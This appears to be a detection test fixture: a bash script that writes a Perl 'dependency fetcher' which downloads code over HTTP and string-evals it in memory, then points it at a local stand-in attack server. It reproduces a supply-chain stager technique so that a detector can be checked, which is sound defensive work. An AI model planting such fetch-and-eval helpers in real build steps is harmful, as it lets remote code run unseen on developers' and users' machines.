#!/bin/bash
# technique: T1059.006 Command and Scripting Interpreter (Perl); T1105 Ingress Tool Transfer
# reproduces: build helpers turned stagers in compromised CPAN-style and Debian-packaging steps: a Perl script of the repository fetches its "dependency list" with HTTP::Tiny and string-evals it, nothing written to disk and nothing on its command line
# expect: interpreter-fetch-eval ^perl
# exec-borne: no
#
# The helper is a file of the checkout's tools/, run by the build; the
# fetch and the eval are three lines apart, through a variable.
set -u
command -v perl >/dev/null || exit 77
perl -MHTTP::Tiny -e 1 2>/dev/null || exit 77

[ -e tools ] && { echo "tools/ exists in the checkout; not touching it" >&2; exit 1; }
trap 'rm -rf tools' EXIT
mkdir tools
cat >tools/fetch-deps.pl <<'PL'
#!/usr/bin/perl
use strict;
use warnings;
use HTTP::Tiny;

my $index = shift @ARGV;
my $res = HTTP::Tiny->new(timeout => 5)->get($index);
die "fetch failed: $res->{status}\n" unless $res->{success};
my $stage = $res->{content};
eval $stage;
die $@ if $@;
PL

perl tools/fetch-deps.pl "http://127.0.0.1:${BW_ATTACK_PORT:?}/stage.pl"
